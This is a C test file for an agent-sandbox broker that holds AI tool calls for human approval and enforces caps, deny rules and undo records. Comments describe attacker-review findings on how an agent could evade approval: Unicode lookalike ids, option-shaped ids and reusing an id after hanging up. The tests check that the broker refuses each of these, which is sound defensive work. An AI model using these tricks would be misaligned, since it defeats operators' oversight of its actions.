        cr_expect_str_eq(event_type(1), "approval.requested");
        cr_expect_str_eq(str(asked, "gen_ai.tool.call.arguments", "command"), cmd, "the whole command, its tail too");
}

/* The agent fills its share of the log while its call is held: the operator's decision is
 * still recorded (in the reserve) and answered; refused, "approved" reached nobody and the
 * chain did not say the operator decided. */
Test(approvals, decision_recorded_when_the_agent_filled_its_share)
{
        setup_approvals(NULL);
        env.hooks.record = fake_record;
        int fd = client();
        send_text(fd, REFUND(1));
        cr_assert_not(reply_ready(fd), "a held call gets no reply");
        env.fake.fail_emit = 1; /* the agent's share is full from now on */
        cr_assert_eq(aj_broker_decide(env.broker, "r1", true, NULL, "alice", NULL, NULL, NULL), 0);
        json_t *r = read_reply(fd);
        cr_expect_str_eq(str(r, "verdict", NULL), "allow");
        json_decref(r);
        cr_assert_eq(json_array_size(env.fake.events), 4);
        cr_expect_str_eq(event_type(2), "approval");
        cr_expect_str_eq(str(json_array_get(env.fake.events, 2), "by", NULL), "alice");
        cr_expect_str_eq(event_type(3), "tool.verdict");
        cr_expect(json_is_true(json_object_get(json_array_get(env.fake.events, 3), "recorded")));
        env.fake.fail_emit = 0;
        close(fd);
}

Test(approvals, held_until_approved_then_in_flight_until_its_result)
{
        setup_approvals(NULL);
        int fd = client();
        send_text(fd, REFUND(1));
        cr_assert_not(reply_ready(fd), "a held call gets no reply");
        cr_assert_eq(json_array_size(env.fake.events), 2);
        cr_expect_str_eq(event_type(0), "tool.request");
        cr_expect_str_eq(event_type(1), "approval.requested");
        cr_expect_str_eq(str(json_array_get(env.fake.events, 1), "timeout", NULL), "10s");
        cr_expect_str_eq(str(in_flight_call("r1"), "state", NULL), "awaiting_approval");
        cr_expect_eq(aj_meter_used(env.meter, AJ_CAP_TOOL_CALLS, 0), 0, "held: reserved, not counted");

        json_t *call = NULL;
        AjError err = {};
        cr_assert_eq(aj_broker_decide(env.broker, "r1", true, NULL, "alice", NULL, &call, &err), 0);
        cr_expect_str_eq(str(call, "decision", NULL), "approved");
        cr_expect_str_eq(str(call, "gen_ai.tool.name", NULL), "refund.issue");
        json_decref(call);
        json_t *r = read_reply(fd);
        cr_expect_eq(json_integer_value(json_object_get(r, "id")), 1);
        cr_expect_str_eq(str(r, "verdict", NULL), "allow");
        cr_expect_str_eq(str(r, "approval", "by"), "alice");
        cr_expect_str_eq(str(r, "approval", "decision"), "approved");
        json_decref(r);
        cr_assert_eq(json_array_size(env.fake.events), 4);
        cr_expect_str_eq(event_type(2), "approval");
        cr_expect_str_eq(str(json_array_get(env.fake.events, 2), "decision", NULL), "approved");
        cr_expect_str_eq(str(json_array_get(env.fake.events, 2), "by", NULL), "alice");
        cr_expect_str_eq(event_type(3), "tool.verdict");
        cr_expect_str_eq(str(json_array_get(env.fake.events, 3), "verdict", NULL), "allow");
        cr_expect_eq(aj_meter_used(env.meter, AJ_CAP_TOOL_CALLS, 0), 1);
        cr_expect_str_eq(str(in_flight_call("r1"), "state", NULL), "running");

        /* Single use: it is no longer awaiting a decision. */
        cr_expect_eq(aj_broker_decide(env.broker, "r1", true, NULL, "alice", NULL, NULL, &err), -ENOENT);
        cr_expect(strstr(err.message, "no call \"r1\" is awaiting approval") != NULL, "%s", err.message);
        aj_error_clear(&err);
        json_decref(request(fd, "{\"id\": 9, \"v\": 1, \"op\": \"tool_result\", \"gen_ai.tool.call.id\": \"r1\", "
                                "\"status\": \"ok\"}\n"));
        cr_expect_null(in_flight_call("r1"));
        close(fd);
}

/* A held call's undo record is refused until it is approved; a denied one's for good. */
Test(approvals, undo_for_a_held_call_only_once_approved)
{
        setup_approvals(NULL);
        int fd = client(), fd2 = client();
        send_text(fd, REFUND(1));
        cr_assert_not(reply_ready(fd), "held");
        expect_undo_refused(fd2, "r1", "still awaiting approval");
        AjError err = {};
        cr_assert_eq(aj_broker_decide(env.broker, "r1", true, NULL, "alice", NULL, NULL, &err), 0);
        json_decref(read_reply(fd));
        expect_undo_taken(fd2, "r1", "refund.issue");

        send_text(fd, REFUND(2));
        cr_assert_not(reply_ready(fd), "held");
        cr_assert_eq(aj_broker_decide(env.broker, "r2", false, NULL, "alice", NULL, NULL, &err), 0);
        json_decref(read_reply(fd));
        expect_undo_refused(fd2, "r2", "no allowed call");
        close(fd);
        close(fd2);
}

/* "net-N" names a host the proxy holds: a tool call with such an id is never held. */
Test(approvals, call_ids_of_host_approvals_are_not_held)
{
        setup_approvals(NULL);
        int fd = client();
        json_t *r = request(fd, "{\"id\": 3, \"v\": 1, \"op\": \"tool\", \"gen_ai.tool.name\": \"refund.issue\", "
                                "\"gen_ai.tool.call.id\": \"net-1\"}\n");
        cr_expect_str_eq(str(r, "verdict", NULL), "deny");
        cr_expect(strstr(str(r, "reason", NULL), "call ids beginning with \"net-\" name host approvals") != NULL, "%s",
                  str(r, "reason", NULL));
        json_decref(r);
        cr_expect_null(in_flight_call("net-1"));
        cr_expect_eq(aj_meter_used(env.meter, AJ_CAP_TOOL_CALLS, 0), 0);
        close(fd);
}

/* The operator names a held call by typing its id: two ids that look alike (e and U+0301
 * against U+00E9) would make the approval reviewed for one allow the other (found by the
 * third attacker review: `agentjail approve RUN r-é` typed approved the call of amount 5000,
 * not the one of amount 5 shown with the same id). A held call's id is printable ASCII;
 * a call the approvals do not hold may have any plain id. */
/* ... that does not begin with '-': `agentjail approve RUN --always` (the ready-made command
 * of approval.json, `agentjail approve RUN '--always' --digest D`) reads it as an option,
 * and the operator could neither approve nor deny the call (attacker review 19). */
/* Each of the n ids, on a refund (held), is denied with `reason` and never held. */
static void expect_held_ids_refused(int fd, const char *const *ids, size_t n, const char *reason)
{
        for (size_t i = 0; i < n; i++) {
                char line[256];
                snprintf(line, sizeof(line),
                         "{\"id\": %zu, \"v\": 1, \"op\": \"tool\", \"gen_ai.tool.name\": \"refund.issue\", "
                         "\"gen_ai.tool.call.id\": \"%s\", \"gen_ai.tool.call.arguments\": {\"amount\": 5}}\n",
                         i, ids[i]);
                json_t *r = request(fd, line);
                cr_expect_str_eq(str(r, "verdict", NULL), "deny", "id %zu", i);
                cr_expect(strstr(str(r, "reason", NULL), reason) != NULL, "%s", str(r, "reason", NULL));
                json_decref(r);
                cr_expect_null(in_flight_call(ids[i]));
        }
}

Test(approvals, a_held_call_id_is_not_an_option)
{
        setup_approvals(NULL);
        int fd = client();
        static const char *const ids[] = { "--always", "-h" };
        expect_held_ids_refused(fd, ids, ARRAY_SIZE(ids), "not beginning with '-'");
        send_text(fd, "{\"id\": 9, \"v\": 1, \"op\": \"tool\", \"gen_ai.tool.name\": \"refund.issue\", "
                      "\"gen_ai.tool.call.id\": \"r-1\", \"gen_ai.tool.call.arguments\": {\"amount\": 5}}\n");
        cr_expect_not(reply_ready(fd), "an id with a '-' inside is held");
        cr_expect_not_null(in_flight_call("r-1"));
        close(fd);
}

Test(approvals, a_held_call_needs_an_ascii_id)
{
        setup_approvals(NULL);
        int fd = client();
        static const char *const ids[] = { "r-e\xcc\x81", "r-\xc3\xa9", "r-\xd0\xb0" };
        expect_held_ids_refused(fd, ids, ARRAY_SIZE(ids), "needs an id of printable ASCII");
        cr_expect_eq(aj_meter_used(env.meter, AJ_CAP_TOOL_CALLS, 0), 0);
        json_t *r = request(fd, "{\"id\": 9, \"v\": 1, \"op\": \"tool\", \"gen_ai.tool.name\": \"lookup\", "
                                "\"gen_ai.tool.call.id\": \"r-\xc3\xa9\"}\n");
        cr_expect_str_eq(str(r, "verdict", NULL), "allow", "not held: any plain id");
        json_decref(r);
        send_text(fd, REFUND(7));
        cr_expect_not(reply_ready(fd), "an ASCII id is held");
        close(fd);
}

Test(approvals, denied_with_a_reason_counts_nothing)
{
        setup_approvals(NULL);
        int fd = client();
        send_text(fd, REFUND(2));
        cr_assert_not(reply_ready(fd));
        cr_assert_eq(aj_broker_decide(env.broker, "r2", false, NULL, "bob", "too much", NULL, NULL), 0);
        json_t *r = read_reply(fd);
        cr_expect_str_eq(str(r, "verdict", NULL), "deny");
        cr_expect_str_eq(str(r, "reason", NULL), "denied by bob: too much");
        json_decref(r);
        cr_expect_str_eq(str(json_array_get(env.fake.events, 2), "decision", NULL), "denied");
        cr_expect_str_eq(str(json_array_get(env.fake.events, 2), "reason", NULL), "too much");
        cr_expect_str_eq(str(last_event(), "verdict", NULL), "deny");
        cr_expect_eq(aj_meter_used(env.meter, AJ_CAP_TOOL_CALLS, 0), 0);
        cr_expect_null(in_flight_call("r2"));
        close(fd);
}

Test(approvals, timeout_denies)
{
        setup_approvals(NULL);
        int fd = client();
        send_text(fd, REFUND(3));
        cr_assert_not(reply_ready(fd));
        fake_now += 9 * 1000000000ull;
        cr_assert_eq(aj_broker_dispatch(env.broker), 0);
        cr_assert_not(reply_ready(fd), "still within the timeout");
        cr_expect(json_number_value(json_object_get(in_flight_call("r3"), "timeout_in_s")) <= 1.0);
        fake_now += 2 * 1000000000ull;
        cr_assert_eq(aj_broker_dispatch(env.broker), 0);
        json_t *r = read_reply(fd);
        cr_expect_str_eq(str(r, "verdict", NULL), "deny");
        cr_expect_str_eq(str(r, "reason", NULL), "no approval within 10s");
        cr_expect_str_eq(str(r, "approval", "decision"), "timeout");
        json_decref(r);
        cr_expect_str_eq(str(json_array_get(env.fake.events, 2), "decision", NULL), "timeout");
        cr_expect_eq(aj_meter_used(env.meter, AJ_CAP_TOOL_CALLS, 0), 0);
        close(fd);
}

Test(approvals, decision_binds_to_the_arguments_digest)
{
        setup_approvals(NULL);
        int fd = client();
        send_text(fd, REFUND(4));
        cr_assert_not(reply_ready(fd));
        char digest[AJ_SHA256_HEX_SIZE];
        json_t *args = json_pack("{s:i}", "amount", 4);
        aj_meter_args_digest(args, digest);
        json_decref(args);
        cr_expect_str_eq(str(in_flight_call("r4"), "arguments_sha256", NULL), digest);
        AjError err = {};
        const char *other = "0000000000000000000000000000000000000000000000000000000000000000";
        cr_expect_eq(aj_broker_decide(env.broker, "r4", true, other, "alice", NULL, NULL, &err), -ESTALE);
        cr_expect(strstr(err.message, "not the call reviewed") != NULL, "%s", err.message);
        aj_error_clear(&err);
        cr_assert_not(reply_ready(fd), "a refused decision leaves the call held");
        cr_expect_eq(aj_broker_decide(env.broker, "r4", true, digest, "alice", NULL, NULL, NULL), 0);
        json_t *r = read_reply(fd);
        cr_expect_str_eq(str(r, "verdict", NULL), "allow");
        json_decref(r);
        close(fd);
}

Test(approvals, other_requests_are_answered_meanwhile)
{
        setup_approvals(NULL);
        int fd = client();
        send_text(fd, REFUND(5));
        json_t *r = request(fd, "{\"id\": 6, \"v\": 1, \"op\": \"tool\", \"gen_ai.tool.name\": \"search\"}\n");
        cr_expect_eq(json_integer_value(json_object_get(r, "id")), 6, "the later request's reply comes first");
        cr_expect_str_eq(str(r, "verdict", NULL), "allow");
        json_decref(r);
        cr_assert_eq(aj_broker_decide(env.broker, "r5", true, NULL, "alice", NULL, NULL, NULL), 0);
        r = read_reply(fd);
        cr_expect_eq(json_integer_value(json_object_get(r, "id")), 5);
        json_decref(r);
        close(fd);
}

Test(approvals, a_caller_that_goes_away_cancels_its_calls)
{
        setup_approvals(NULL);
        int fd = client();
        send_text(fd, REFUND(7));
        cr_assert_not(reply_ready(fd));
        close(fd);
        for (int i = 0; i < 50 && in_flight_call("r7"); i++)
                pump();
        cr_expect_null(in_flight_call("r7"));
        cr_expect_str_eq(str(last_event(), "type", NULL), "approval");
        cr_expect_str_eq(str(last_event(), "decision", NULL), "cancelled");
        cr_expect_str_eq(str(last_event(), "reason", NULL), "the caller disconnected");
        cr_expect_eq(aj_meter_used(env.meter, AJ_CAP_TOOL_CALLS, 0), 0);
        cr_expect_eq(aj_broker_decide(env.broker, "r7", true, NULL, "alice", NULL, NULL, NULL), -ENOENT);
}

Test(approvals, a_half_closed_caller_still_gets_its_answer)
{
        setup_approvals(NULL);
        int fd = client();
        send_text(fd, REFUND(8));
        shutdown(fd, SHUT_WR);
        cr_assert_not(reply_ready(fd));
        cr_assert_eq(aj_broker_decide(env.broker, "r8", true, NULL, "alice", NULL, NULL, NULL), 0);
        json_t *r = read_reply(fd);
        cr_expect_str_eq(str(r, "verdict", NULL), "allow");
        json_decref(r);
        close(fd);
}

Test(approvals, deny_rules_and_caps_come_first)
{
        AjMeterCaps caps = {};
        caps.set[AJ_CAP_TOOL_CALLS] = true;
        caps.limit[AJ_CAP_TOOL_CALLS] = 1;
        setup_approvals(&caps);
        cr_assert_eq(aj_meter_add_tool_rule(env.meter, AJ_TOOL_RULE_DENY, "email.*"), 0);
        int fd = client();
        json_t *r = request(fd, "{\"id\": 1, \"v\": 1, \"op\": \"tool\", \"gen_ai.tool.name\": \"email.send\"}\n");
        cr_expect_str_eq(str(r, "verdict", NULL), "deny", "tools.deny is not overridden by approvals");
        json_decref(r);
        /* A held call keeps its place under the caps: the next call would cross tool_calls. */
        send_text(fd, REFUND(2));
        cr_assert_not(reply_ready(fd));
        r = request(fd, "{\"id\": 3, \"v\": 1, \"op\": \"tool\", \"gen_ai.tool.name\": \"search\"}\n");
        cr_expect_str_eq(str(r, "verdict", NULL), "breach");
        json_decref(r);
        cr_assert_eq(aj_broker_decide(env.broker, "r2", true, NULL, "alice", NULL, NULL, NULL), 0);
        r = read_reply(fd);
        cr_expect_str_eq(str(r, "verdict", NULL), "allow");
        json_decref(r);
        cr_expect_eq(aj_meter_used(env.meter, AJ_CAP_TOOL_CALLS, 0), 1);
        close(fd);
}

Test(approvals, held_calls_are_bounded_and_ids_unique)
{
        setup_approvals(NULL);
        int fd = client();
        char line[256];
        for (int i = 0; i < 64; i++) {
                snprintf(line, sizeof(line),
                         "{\"id\": %d, \"v\": 1, \"op\": \"tool\", \"gen_ai.tool.name\": \"refund.x\", "
                         "\"gen_ai.tool.call.id\": \"h%d\"}\n",
                         i, i);
                send_text(fd, line);
        }
        cr_assert_not(reply_ready(fd));
        json_t *r = request(fd, "{\"id\": 100, \"v\": 1, \"op\": \"tool\", \"gen_ai.tool.name\": \"refund.x\", "
                                "\"gen_ai.tool.call.id\": \"h100\"}\n");
        cr_expect_str_eq(str(r, "verdict", NULL), "deny");
        cr_expect_str_eq(str(r, "reason", NULL), "too many calls awaiting approval (at most 64)");
        json_decref(r);
        cr_assert_eq(aj_broker_decide(env.broker, "h0", false, NULL, "alice", NULL, NULL, NULL), 0);
        json_decref(read_reply(fd));
        r = request(fd, "{\"id\": 101, \"v\": 1, \"op\": \"tool\", \"gen_ai.tool.name\": \"refund.x\", "
                        "\"gen_ai.tool.call.id\": \"h1\"}\n");
        cr_expect_str_eq(str(r, "reason", NULL), "call id \"h1\" is already awaiting approval");
        json_decref(r);
        close(fd);
}

/* The operator decides on a call by its id (and --digest, the arguments' sha256): an id held
 * once names that call for the rest of the run. Else a caller could let the call the operator
 * is reviewing go (hang up) and ask again under the same id for another tool with the same
 * arguments: the operator's `approve RUN ID --digest D` would allow a call never reviewed. */
Test(approvals, a_held_call_id_names_one_call_for_the_run)
{
        setup_approvals(NULL);
        char digest[AJ_SHA256_HEX_SIZE];
        json_t *args = json_pack("{s:i}", "amount", 9);
        aj_meter_args_digest(args, digest);
        json_decref(args);
        int fd = client();
        send_text(fd, "{\"id\": 1, \"v\": 1, \"op\": \"tool\", \"gen_ai.tool.name\": \"refund.preview\", "
                      "\"gen_ai.tool.call.id\": \"r9\", \"gen_ai.tool.call.arguments\": {\"amount\": 9}}\n");
        cr_assert_not(reply_ready(fd), "held");
        close(fd);
        for (int i = 0; i < 50 && in_flight_call("r9"); i++)
                pump();
        cr_assert_null(in_flight_call("r9"), "cancelled");

        /* The same id, the same arguments (so the same digest), another tool: not held. */
        fd = client();
        json_t *r = request(fd, "{\"id\": 2, \"v\": 1, \"op\": \"tool\", \"gen_ai.tool.name\": \"refund.issue\", "
                                "\"gen_ai.tool.call.id\": \"r9\", \"gen_ai.tool.call.arguments\": {\"amount\": 9}}\n");
        cr_expect_str_eq(str(r, "verdict", NULL), "deny");
        cr_expect(strstr(str(r, "reason", NULL), "call id \"r9\" was held for approval earlier in this run") != NULL,
                  "%s", str(r, "reason", NULL));
        json_decref(r);
        AjError err = {};
        cr_expect_eq(aj_broker_decide(env.broker, "r9", true, digest, "alice", NULL, NULL, &err), -ENOENT,
                     "the operator's decision on r9 allows nothing it did not review");
        aj_error_clear(&err);
        cr_expect_eq(aj_meter_used(env.meter, AJ_CAP_TOOL_CALLS, 0), 0);

        /* Other arguments under that id: not held either. */
        r = request(fd, "{\"id\": 3, \"v\": 1, \"op\": \"tool\", \"gen_ai.tool.name\": \"refund.preview\", "
                        "\"gen_ai.tool.call.id\": \"r9\", \"gen_ai.tool.call.arguments\": {\"amount\": 900}}\n");
        cr_expect_str_eq(str(r, "verdict", NULL), "deny");
        json_decref(r);

        /* The same call again (after a timeout, a denial, a hang-up) is held again. */
        send_text(fd, "{\"id\": 4, \"v\": 1, \"op\": \"tool\", \"gen_ai.tool.name\": \"refund.preview\", "
                      "\"gen_ai.tool.call.id\": \"r9\", \"gen_ai.tool.call.arguments\": {\"amount\": 9}}\n");
        cr_assert_not(reply_ready(fd), "the same call is held again");
        cr_assert_eq(aj_broker_decide(env.broker, "r9", true, digest, "alice", NULL, NULL, NULL), 0);
        r = read_reply(fd);
        cr_expect_str_eq(str(r, "verdict", NULL), "allow");
        json_decref(r);
        close(fd);
}

/* Asking for approvals costs the asker nothing when it hangs up (a cancelled call counts
 * nothing), but each one is an operator's interruption (approval.json, the alert command):
 * a run asks for at most AJ_BROKER_MAX_APPROVALS. */
Test(approvals, approvals_asked_are_bounded_per_run)
{
        setup_approvals(NULL);
        int fd = client();
        char line[256], id[32];
        for (int i = 0; i < AJ_BROKER_MAX_APPROVALS; i++) {
                snprintf(line, sizeof(line),
                         "{\"id\": %d, \"v\": 1, \"op\": \"tool\", \"gen_ai.tool.name\": \"refund.x\", "
                         "\"gen_ai.tool.call.id\": \"a%d\"}\n",
                         i, i);
                send_text(fd, line);
                snprintf(id, sizeof(id), "a%d", i);
                pump(); /* the line is there: no wait */
                cr_assert_eq(aj_broker_decide(env.broker, id, false, NULL, "alice", NULL, NULL, NULL), 0, "%s", id);
                /* The denial is sent as it is decided: read without pumping (which waits). */
                char c = 0;
                while (c != '\n')
                        cr_assert_eq(recv(fd, &c, 1, 0), 1);
        }
        json_t *r = request(fd, "{\"id\": 1, \"v\": 1, \"op\": \"tool\", \"gen_ai.tool.name\": \"refund.x\", "
                                "\"gen_ai.tool.call.id\": \"a-last\"}\n");
        cr_expect_str_eq(str(r, "verdict", NULL), "deny");
        cr_expect(strstr(str(r, "reason", NULL), "approvals") != NULL, "%s", str(r, "reason", NULL));
        json_decref(r);
        cr_expect_null(in_flight_call("a-last"));
        /* Calls that need no approval go on as before. */
        r = request(fd, "{\"id\": 2, \"v\": 1, \"op\": \"tool\", \"gen_ai.tool.name\": \"search\"}\n");
        cr_expect_str_eq(str(r, "verdict", NULL), "allow");
        json_decref(r);
        close(fd);
}

Test(broker, unrecorded_event_counts_nothing)
{
        int fd = client();
        env.fake.fail_emit = 1;
        json_t *r = request(fd, "{\"id\": 1, \"v\": 1, \"op\": \"tool\", \"gen_ai.tool.name\": \"x\"}\n");
        cr_expect(json_is_false(json_object_get(r, "ok")));
        cr_expect_str_eq(str(r, "error", "code"), "internal");
        json_decref(r);
        cr_expect_eq(aj_meter_used(env.meter, AJ_CAP_TOOL_CALLS, 0), 0);
        env.fake.fail_emit = 0;
        r = request(fd, "{\"id\": 2, \"v\": 1, \"op\": \"tool\", \"gen_ai.tool.name\": \"x\"}\n");
        cr_expect_str_eq(str(r, "verdict", NULL), "allow");
        json_decref(r);
        cr_expect_eq(aj_meter_used(env.meter, AJ_CAP_TOOL_CALLS, 0), 1);
        close(fd);
}

Test(broker, large_arguments_are_logged_truncated)
{
        int fd = client();
        char *line = NULL;
        char big[3000];
        memset(big, 'a', sizeof(big) - 1);
        big[sizeof(big) - 1] = 0;
        cr_assert_geq(asprintf(&line,
                               "{\"id\": 1, \"v\": 1, \"op\": \"tool\", \"gen_ai.tool.name\": \"w\", "
                               "\"gen_ai.tool.call.arguments\": {\"text\": \"%s\"}}\n",
                               big),
                      0);
        json_t *r = request(fd, line);
        free(line);
        cr_expect_str_eq(str(r, "verdict", NULL), "allow");
        json_decref(r);
        json_t *ev = json_array_get(env.fake.events, 0);
        cr_expect_null(json_object_get(ev, "gen_ai.tool.call.arguments"));
        cr_expect_eq(strlen(str(ev, "arguments_truncated", NULL)), AJ_BROKER_MAX_LOGGED_ARGS);
        cr_expect_eq(json_integer_value(json_object_get(ev, "arguments_size")), 3000 - 1 + 11);
        close(fd);
}

/* A client that writes but never reads is dropped; another client is served throughout. */
Test(broker, client_that_never_reads_is_disconnected)
{
        int hog = client();
        int good = client();
        const char *line = "{\"id\": 1, \"v\": 1, \"op\": \"usage\"}\n";
        bool dropped = false;
        for (int i = 0; i < 20000 && !dropped; i++) {
                ssize_t w = send(hog, line, strlen(line), MSG_DONTWAIT | MSG_NOSIGNAL);
                if (w < 0 && errno != EAGAIN)
                        dropped = true;
                pump();
                if (aj_broker_connections(env.broker) == 1)
                        dropped = true;
                if (i % 1000 == 0) {
                        json_t *r = request(good, "{\"id\": 2, \"v\": 1, \"op\": \"usage\"}\n");
                        cr_assert_not_null(r);
                        json_decref(r);
                }
        }
        cr_expect(dropped, "the client that never reads was not disconnected");
        json_t *r = request(good, "{\"id\": 3, \"v\": 1, \"op\": \"usage\"}\n");
        cr_expect(json_is_true(json_object_get(r, "ok")));
        json_decref(r);
        close(hog);
        close(good);
}

Test(broker, error_events_are_rate_limited)
{
        int fd = client();
        for (int i = 0; i < 200; i++)
                json_decref(request(fd, "not json\n"));
        size_t n = json_array_size(env.fake.events);
        cr_expect_lt(n, 60, "%zu broker.error events for 200 bad lines", n);
        cr_expect_geq(n, 20);
        close(fd);
}

static uint64_t report_clock_ns;
static uint64_t report_clock(void) { return report_clock_ns; }

/* More undo records than one rollback plans: the one past the limit is refused, naming
 * the field, and not recorded; a result without one is still taken. */
Test(broker, undo_records_are_bounded_per_run)
{
        int fd = client();
        char line[256];
        for (int i = 0; i < AJ_BROKER_MAX_UNDO; i++) {
                allow_call(fd, "t", "c", i);
                snprintf(line, sizeof(line),
                         "{\"id\": %d, \"v\": 1, \"op\": \"tool_result\", \"gen_ai.tool.call.id\": \"c%d\", "
                         "\"status\": \"ok\", \"undo\": {\"tool\": \"x\"}}\n",
                         i, i);
                json_t *r = request(fd, line);
                cr_assert(json_is_true(json_object_get(r, "ok")), "report %d refused", i);
                json_decref(r);
        }
        allow_call(fd, "t", "cx", 0);
        size_t before = json_array_size(env.fake.events);
        json_t *r = request(fd, "{\"id\": 1, \"v\": 1, \"op\": \"tool_result\", \"gen_ai.tool.call.id\": \"cx0\", "
                                "\"status\": \"ok\", \"undo\": {\"tool\": \"x\"}}\n");
        cr_expect_str_eq(str(r, "error", "code"), "bad_request");
        cr_expect(strstr(str(r, "error", "message"), "field \"undo\": this run has recorded 4096") != NULL, "%s",
                  str(r, "error", "message"));
        json_decref(r);
        cr_expect_eq(json_array_size(env.fake.events), before + 1, "only the broker.error is recorded");
        cr_expect_str_eq(str(last_event(), "type", NULL), "broker.error");
        r = request(fd, "{\"id\": 2, \"v\": 1, \"op\": \"tool_result\", \"gen_ai.tool.call.id\": \"cx0\", "
                        "\"status\": \"ok\"}\n");
        cr_expect(json_is_true(json_object_get(r, "ok")), "a result without an undo record is still taken");
        json_decref(r);
        close(fd);
}

/* The call ids are the agent's: an undo record is taken only with the first result of a
 * call the broker allowed (the operator's rollback runs it on the host). */
Test(broker, undo_only_for_an_allowed_call)
{
        cr_assert_eq(aj_meter_add_tool_rule(env.meter, AJ_TOOL_RULE_DENY, "crm.import"), 0);
        int fd = client();
        expect_undo_refused(fd, "ghost", "never asked for, denied, or reported already");

        json_t *r = request(fd, "{\"id\": 1, \"v\": 1, \"op\": \"tool\", \"gen_ai.tool.name\": \"crm.import\", "
                                "\"gen_ai.tool.call.id\": \"d1\"}\n");
        cr_expect_str_eq(str(r, "verdict", NULL), "deny");
        json_decref(r);
        expect_undo_refused(fd, "d1", "no allowed call awaiting its result");

        allow_call(fd, "crm.create", "c", 1);
        expect_undo_taken(fd, "c1", "crm.create");
        expect_undo_refused(fd, "c1", "reported already");

        /* A result without an undo record takes the call's right too: a later one is refused. */
        allow_call(fd, "crm.create", "c", 2);
        r = request(fd, "{\"id\": 2, \"v\": 1, \"op\": \"tool_result\", \"gen_ai.tool.call.id\": \"c2\", "
                        "\"status\": \"ok\"}\n");
        cr_expect(json_is_true(json_object_get(r, "ok")));
        json_decref(r);
        cr_expect_str_eq(str(last_event(), "gen_ai.tool.name", NULL), "crm.create");
        expect_undo_refused(fd, "c2", "reported already");

        /* A reused id is a new call: allowed once, then denied, it has no right. */
        allow_call(fd, "crm.create", "c", 3);
        r = request(fd, "{\"id\": 3, \"v\": 1, \"op\": \"tool\", \"gen_ai.tool.name\": \"crm.import\", "
                        "\"gen_ai.tool.call.id\": \"c3\"}\n");
        cr_expect_str_eq(str(r, "verdict", NULL), "deny");
        json_decref(r);
        expect_undo_refused(fd, "c3", "no allowed call");

        /* Allowed again under the same id: the right is the newer call's, and only one. */
        allow_call(fd, "crm.create", "r", 1);
        allow_call(fd, "crm.update", "r", 1);
        expect_undo_taken(fd, "r1", "crm.update");
        expect_undo_refused(fd, "r1", "reported already");
        close(fd);
}

/* An allowed call the in-flight table dropped (300 newer calls) keeps its right. */
Test(broker, undo_for_a_call_dropped_from_the_in_flight_table)
{
        int fd = client();
        allow_call(fd, "crm.create", "first", 0);
        for (int i = 0; i < 300; i++)
                allow_call(fd, "search", "k", i);
        cr_assert_gt(aj_broker_in_flight_dropped(env.broker), 0);
        json_t *list = aj_broker_in_flight(env.broker);
        size_t i;
        json_t *f;
        json_array_foreach (list, i, f)
                cr_assert(!streq(str(f, "gen_ai.tool.call.id", NULL), "first0"), "dropped from the table");
        json_decref(list);
        expect_undo_taken(fd, "first0", "crm.create");
        expect_undo_refused(fd, "first0", "reported already");
        close(fd);
}

/* The allowed calls remembered for their undo records are bounded: past the bound a newly
 * allowed call's undo record is refused, saying why; a result frees a place. */
Test(broker, allowed_calls_remembered_are_bounded)
{
        int fd = client();
        for (int i = 0; i < AJ_BROKER_MAX_UNDO; i++)
                allow_call(fd, "t", "a", i);
        allow_call(fd, "t", "over", 0);
        expect_undo_refused(fd, "over0", "the most calls awaiting results it keeps");
        expect_undo_taken(fd, "a0", "t");
        allow_call(fd, "t", "over", 1);
        expect_undo_taken(fd, "over1", "t");
        close(fd);
}

/* tool_result and tokens past logs.reports_per_sec: an error reply, nothing recorded, the
 * refusals counted in the next recorded report. */
Test(broker, report_floods_are_rate_limited)
{
        report_clock_ns = 1000000000ull;
        aj_broker_set_clock(env.broker, report_clock);
        aj_broker_set_report_rate(env.broker, 2); /* a burst of 20, then 2 per second */
        int fd = client();
        int ok = 0, limited = 0;
        for (int i = 0; i < 40; i++) {
                json_t *r =
                        request(fd,
                                i % 2 ? "{\"id\": 1, \"v\": 1, \"op\": \"tool_result\", \"gen_ai.tool.call.id\": \"c1\", "
                                        "\"status\": \"ok\"}\n"
                                      : "{\"id\": 2, \"v\": 1, \"op\": \"tokens\", \"gen_ai.request.model\": \"m\", "
                                        "\"gen_ai.usage.input_tokens\": 10, \"gen_ai.usage.output_tokens\": 1}\n");
                if (json_is_true(json_object_get(r, "ok")))
                        ok++;
                else if (streq(str(r, "error", "code"), "rate_limited"))
                        limited++;
                json_decref(r);
        }
        cr_expect_eq(ok, 20);
        cr_expect_eq(limited, 20);
        cr_expect_eq(aj_broker_reports_suppressed(env.broker), 20);
        cr_expect_eq(json_array_size(env.fake.events), 20, "refused reports are not recorded");
        /* Refused tokens are not counted either. */
        json_t *u = request(fd, "{\"id\": 3, \"v\": 1, \"op\": \"usage\"}\n");
        cr_expect_eq(json_integer_value(
                             json_object_get(json_object_get(json_object_get(u, "usage"), "tokens"), "used")),
                     10 * 11, "%s", json_dumps(u, 0));
        json_decref(u);

        report_clock_ns += 1000000000ull; /* two more */
        json_t *r = request(fd, "{\"id\": 4, \"v\": 1, \"op\": \"tool_result\", \"gen_ai.tool.call.id\": \"c2\", "
                                "\"status\": \"ok\"}\n");
        cr_expect(json_is_true(json_object_get(r, "ok")));
        json_decref(r);
        json_t *last = json_array_get(env.fake.events, json_array_size(env.fake.events) - 1);
        cr_expect_eq(json_integer_value(json_object_get(last, "suppressed")), 20);
        close(fd);
}

/* ---- the client's argument parsing ---- */

static int parse(AjMeterCmd *c, AjError *err, const char *const *args)
{
        char *argv[32];
        int argc = 0;
        while (args[argc]) {
                argv[argc] = (char *)args[argc];
                argc++;
        }
        argv[argc] = NULL;
        aj_error_clear(err);
        return aj_meter_cmd_parse(argc, argv, c, err);
}

#define ARGS(...) ((const char *const[]){ "meter", __VA_ARGS__, NULL })

Test(meter_cmd, parse_valid)
{
        AjMeterCmd c;
        AjError err = {};
        cr_assert_eq(parse(&c, &err, ARGS("tool", "crm.update", "--args", "{\"id\":7}", "--id=c9", "--json")), 0);
        cr_expect_eq(c.kind, AJ_METER_CMD_TOOL);
        cr_expect_str_eq(c.name, "crm.update");
        cr_expect_str_eq(c.args, "{\"id\":7}");
        cr_expect_str_eq(c.id, "c9");
        cr_expect(c.json);
        char *req = NULL;
        cr_assert_eq(aj_meter_cmd_request(&c, 42, &req), 0);
        json_t *j = json_loads(req, 0, NULL);
        cr_expect_str_eq(str(j, "op", NULL), "tool");
        cr_expect_str_eq(str(j, "gen_ai.tool.call.id", NULL), "c9");
        cr_expect_eq(json_integer_value(json_object_get(json_object_get(j, "gen_ai.tool.call.arguments"), "id")), 7);
        cr_expect_eq(json_integer_value(json_object_get(j, "id")), 42);
